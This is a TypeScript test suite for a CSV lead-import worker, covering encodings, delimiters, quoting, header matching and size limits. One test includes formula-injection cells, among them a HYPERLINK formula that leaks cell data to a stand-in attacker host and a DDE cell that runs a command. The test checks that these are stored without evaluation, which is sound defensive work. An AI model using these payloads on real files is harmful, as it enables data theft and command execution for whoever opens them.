import { readFileSync } from "node:fs";
import http from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
import { call, testWorkspace, type TestWorkspace } from "../helpers/api-fixtures";
import { startFileServer } from "../helpers/csv-fixtures";
import { eventually, freePort, getJson, spawnWorker, type Spawned } from "../helpers/processes";

// A corpus of awkward CSV files, each imported by a real worker (default limits: 50 MiB, 1,000,000
// rows) from a loopback server, with the outcome the contract and docs/pipeline.md give: rows
// imported verbatim, bad rows listed at GET /runs/{id}/errors with their spreadsheet row number
// and reason, or the run failed with a clear error code.

const MiB = 1024 * 1024;
let ws: TestWorkspace;
let worker: Spawned;
let files: Awaited<ReturnType<typeof startFileServer>>;
const fileMap = new Map<string, string | Buffer>();

beforeAll(async () => {
  ws = await testWorkspace("csvcorpus");
  files = await startFileServer(fileMap);
  const port = await freePort();
  worker = spawnWorker({ WORKER_PORT: String(port), CSV_MAX_BYTES: undefined, CSV_MAX_ROWS: undefined });
  await eventually(async () => (await getJson(`http://127.0.0.1:${port}/readyz`)).status === 200, { timeoutMs: 30_000 });
});

afterAll(async () => {
  worker?.child.kill("SIGTERM");
  await files?.close();
});

type Run = { id: string; status: string; counts: Record<string, number>; error: { code: string; message: string } | null };
type Lead = {
  id: string;
  email: string;
  first_name: string | null;
  last_name: string | null;
  company: string | null;
  title: string | null;
  notes: string | null;
  attributes: Record<string, string>;
};

async function settled(runId: string, timeoutMs = 30_000): Promise<Run> {
  return eventually(
    async () => {
      const run = await call("GET", `/v1/runs/${runId}`, { token: ws.tokens.viewer });
      return ["completed", "awaiting_review", "failed", "canceled"].includes(run.body.status as string) ? (run.body as unknown as Run) : null;
    },
    { timeoutMs },
  );
}

/** Serves the file, runs it up to extract_signals, and returns the run, its row errors and its leads by email. */
async function importFile(name: string, content: string | Buffer) {
  fileMap.set(`/${name}`, content);
  const started = await call("POST", "/v1/runs", {
    token: ws.tokens.admin,
    body: { pack: "saas-outbound", leads_csv_url: `${files.url}/${name}`, stop_after: "extract_signals" },
  });
  expect(started.status, JSON.stringify(started.body)).toBe(202);
  const run = await settled(started.body.id as string);
  const errors = (await call("GET", `/v1/runs/${run.id}/errors?limit=100`, { token: ws.tokens.viewer })).body.data as {
    row: number;
    code: string;
    message: string;
    raw: string;
  }[];
  const leads = ((await call("GET", `/v1/runs/${run.id}/leads?limit=100`, { token: ws.tokens.viewer })).body.data ?? []) as { lead: Lead }[];
  return { run, errors, leads: new Map(leads.map((entry) => [entry.lead.email, entry.lead])) };
}

describe("CSV corpus: encodings and delimiters", () => {
  it("reads a UTF-8 byte-order mark and CRLF line endings", async () => {
    const { run, errors, leads } = await importFile("bom.csv", "\ufeffEmail,First Name\r\nada@bom.example,Ada\r\nbob@bom.example,Bob\r\n");
    expect(run).toMatchObject({ status: "completed", counts: { rows: 2, imported: 2, invalid_rows: 0 } });
    expect(errors).toEqual([]);
    expect(leads.get("ada@bom.example")).toMatchObject({ first_name: "Ada" });
  });

  it("keeps quoted fields with embedded newlines, quotes and delimiters, and numbers rows by record", async () => {
    const csv =
      'email,notes,company\r\nq1@quote.example,"line one\nline two\r\nline three",Engines\r\n' +
      'q2@quote.example,"she said ""hi"", then left","Commas, Inc"\r\n,no email here,\r\nnot-an-email,x,\r\nq1@quote.example,dup,\r\n';
    const { run, errors, leads } = await importFile("quoted.csv", csv);
    expect(run).toMatchObject({ status: "completed", counts: { rows: 5, imported: 2, invalid_rows: 3 } });
    expect(leads.get("q1@quote.example")).toMatchObject({ notes: "line one\nline two\r\nline three", company: "Engines" });
    expect(leads.get("q2@quote.example")).toMatchObject({ notes: 'she said "hi", then left', company: "Commas, Inc" });
    expect(errors.map((e) => [e.row, e.code])).toEqual([
      [4, "missing_email"],
      [5, "invalid_email"],
      [6, "duplicate_email"],
    ]);
  });

  it("detects semicolon, tab and pipe delimiters from the header row", async () => {
    const semicolon = await importFile("semicolon.csv", "email;first_name;company\r\nsemi@delim.example;Ada;Engines, Ltd\r\n");
    expect(semicolon.run).toMatchObject({ status: "completed", counts: { imported: 1 } });
    expect(semicolon.leads.get("semi@delim.example")).toMatchObject({ first_name: "Ada", company: "Engines, Ltd" });
    const tab = await importFile("tab.tsv", "email\tfirst_name\tcompany\ntab@delim.example\tGrace\tCobol; Co\n");
    expect(tab.leads.get("tab@delim.example")).toMatchObject({ first_name: "Grace", company: "Cobol; Co" });
    const pipe = await importFile("pipe.csv", "email|first_name\npipe@delim.example|Linus\n");
    expect(pipe.leads.get("pipe@delim.example")).toMatchObject({ first_name: "Linus" });
  });

  it("transcodes UTF-16 with a byte-order mark (a spreadsheet's Unicode text export)", async () => {
    const text = "email\tfirst_name\tlast_name\nzoe@utf16.example\tZoë\tÅström 💡\n";
    const { run, leads } = await importFile("utf16.txt", Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, "utf16le")]));
    expect(run).toMatchObject({ status: "completed", counts: { imported: 1 } });
    expect(leads.get("zoe@utf16.example")).toMatchObject({ first_name: "Zoë", last_name: "Åström 💡" });
  });

  it("fails a Latin-1 or Windows-1252 file with csv_unreadable instead of storing wrong names", async () => {
    const latin1 = await importFile("latin1.csv", Buffer.from("email,first_name\nzoe@latin1.example,Zoë Ångström\n", "latin1"));
    expect(latin1.run).toMatchObject({ status: "failed", error: { code: "csv_unreadable", message: expect.stringContaining("not UTF-8") } });
    const cp1252 = Buffer.concat([Buffer.from("email,notes\nq@cp1252.example,"), Buffer.from([0x93, 0x68, 0x69, 0x94, 0x20, 0x80, 0x35]), Buffer.from("\n")]);
    const windows = await importFile("cp1252.csv", cp1252);
    expect(windows.run).toMatchObject({ status: "failed", error: { code: "csv_unreadable" } });
    expect(windows.leads.size).toBe(0);
  });
});

describe("CSV corpus: content", () => {
  it("stores formula-looking cells verbatim and never evaluates them", async () => {
    const cells = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "=cmd|' /C calc'!A0", "\t=1+1"];
    const csv = `email,first_name,company,notes,Lead Source\r\n${cells.map((cell, i) => `f${i}@formula.example,"${cell.replaceAll('"', '""')}",${i},"${cell.replaceAll('"', '""')}","${cell.replaceAll('"', '""')}"`).join("\r\n")}\r\n`;
    const { run, leads } = await importFile("formula.csv", csv);
    expect(run).toMatchObject({ status: "completed", counts: { imported: cells.length, invalid_rows: 0 } });
    for (const [i, cell] of cells.entries()) {
      const fetched = await call("GET", `/v1/leads/${leads.get(`f${i}@formula.example`)!.id}`, { token: ws.tokens.viewer });
      // Cells are trimmed of surrounding whitespace, nothing else.
      expect(fetched.body).toMatchObject({ first_name: cell.trim(), notes: cell.trim(), attributes: { "Lead Source": cell.trim() } });
    }
  });

  it("matches header names loosely and fails without an email column", async () => {
    const loose = await importFile("headers.csv", "  E-mail  , First Name ,JOB_TITLE,Company Size\r\nloose@headers.example,Ada,CTO,1200\r\n");
    expect(loose.run).toMatchObject({ status: "completed", counts: { imported: 1 } });
    expect(loose.leads.get("loose@headers.example")).toMatchObject({ first_name: "Ada", title: "CTO" });
    const upper = await importFile("upper.csv", "EMAIL,LAST NAME\r\nUPPER@Headers.example,Lovelace\r\n");
    expect(upper.leads.get("UPPER@Headers.example")).toMatchObject({ last_name: "Lovelace" });
    const missing = await importFile("no-email.csv", "name,company,mail_server\r\nAda,Engines,smtp.example\r\n");
    expect(missing.run).toMatchObject({ status: "failed", error: { code: "csv_missing_email_column" } });
  });

  it("fails an empty file, and completes a header-only file with nothing imported", async () => {
    expect((await importFile("empty.csv", "")).run).toMatchObject({ status: "failed", error: { code: "csv_empty" } });
    expect((await importFile("blank.csv", "\r\n\r\n\n")).run).toMatchObject({ status: "failed", error: { code: "csv_empty" } });
    const headerOnly = await importFile("header-only.csv", "email,first_name\r\n");
    expect(headerOnly.run).toMatchObject({ status: "completed", counts: { rows: 0, imported: 0, invalid_rows: 0 }, error: null });
  });
});

describe("CSV corpus: 100 MB", () => {
  it("fails the run with csv_too_large promptly, stops downloading and stays small in memory", async () => {
    let served = 0;
    const server = http.createServer(async (req, res) => {
      res.writeHead(200, { "content-type": "text/csv" });
      let closed = false;
      res.on("close", () => (closed = true));
      res.write("email,first_name,notes\r\n");
      for (let i = 0; served < 100 * MiB && !closed; i++) {
        const chunk = bigRow(i);
        served += chunk.length;
        if (!res.write(chunk)) await new Promise((resolve) => res.once("drain", resolve).once("close", resolve));
      }
      res.end();
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", () => resolve()));
    const memory = (field: string) => Number(new RegExp(`${field}:\\s+(\\d+) kB`).exec(readFileSync(`/proc/${worker.child.pid}/status`, "utf8"))![1]) * 1024;
    const before = memory("VmRSS");
    try {
      const startedAt = Date.now();
      const started = await call("POST", "/v1/runs", {
        token: ws.tokens.admin,
        body: { pack: "saas-outbound", leads_csv_url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/huge.csv`, stop_after: "extract_signals" },
      });
      const run = await settled(started.body.id as string, 90_000);
      expect(run).toMatchObject({ status: "failed", error: { code: "csv_too_large", message: expect.stringContaining("52428800 bytes") } });
      expect(Date.now() - startedAt).toBeLessThan(60_000);
      expect(served).toBeLessThan(64 * MiB);
      expect(memory("VmHWM") - before).toBeLessThan(200 * MiB);
    } finally {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    }
  }, 120_000);

  it("refuses a 100 MB upload sent without a declared length with 413, without reading it all", async () => {
    // HTTP/1.1 lets a server answer before the body ends and then close (RFC 9112 §9.6). A client
    // still sending can then meet the reset before it reads the answer, a race in the kernel, not a
    // refusal we failed to send. So the answer is read while sending, and a try that met the reset
    // first is repeated (at most three); every try must have stopped well short of 100 MB.
    const tries: { status: number | null; body: string; sent: number }[] = [];
    for (let attempt = 0; attempt < 3 && !tries.some((t) => t.status !== null); attempt++) {
      tries.push(await chunkedUpload(100 * MiB));
    }
    for (const t of tries) expect(t.sent).toBeLessThan(80 * MiB);
    const answered = tries.find((t) => t.status !== null);
    expect(answered, JSON.stringify(tries)).toBeDefined();
    expect(answered!.status).toBe(413);
    expect(JSON.parse(answered!.body)).toMatchObject({ code: "payload_too_large" });
  }, 180_000);
});

/**
 * POSTs a multipart body of `total` bytes with chunked encoding, honouring backpressure and stopping
 * as soon as an answer arrives. Returns the answer (status null when the connection was reset first)
 * and how many bytes were pushed.
 */
function chunkedUpload(total: number): Promise<{ status: number | null; body: string; sent: number }> {
  const url = new URL(`${inject("apiUrl")}/v1/runs`);
  return new Promise((resolve) => {
    let sent = 0;
    let answered = false;
    let done = false;
    const finish = (status: number | null, body: string) => {
      if (done) return;
      done = true;
      resolve({ status, body, sent });
    };
    const request = http.request({
      host: url.hostname,
      port: url.port,
      path: url.pathname,
      method: "POST",
      headers: { authorization: `Bearer ${ws.tokens.admin}`, "content-type": "multipart/form-data; boundary=b", "transfer-encoding": "chunked" },
    });
    request.on("response", (response) => {
      answered = true;
      let body = "";
      response.setEncoding("utf8");
      response.on("data", (chunk: string) => (body += chunk));
      response.on("end", () => finish(response.statusCode ?? null, body));
      response.on("error", () => finish(response.statusCode ?? null, body));
    });
    request.on("error", () => {
      if (!answered) finish(null, "");
    });
    const write = () => {
      while (!answered && !done) {
        if (sent >= total) {
          request.end("\r\n--b--\r\n");
          return;
        }
        const chunk = Buffer.from(bigRow(sent));
        sent += chunk.length;
        if (!request.write(chunk)) {
          request.once("drain", write);
          return;
        }
      }
    };
    request.write(
      '--b\r\nContent-Disposition: form-data; name="pack"\r\n\r\nsaas-outbound\r\n--b\r\nContent-Disposition: form-data; name="file"; filename="big.csv"\r\nContent-Type: text/csv\r\n\r\nemail\r\n',
    );
    write();
  });
}

function bigRow(i: number): string {
  return `big${i}@huge.example,Big,${"n".repeat(100_000)}\r\n`;
}
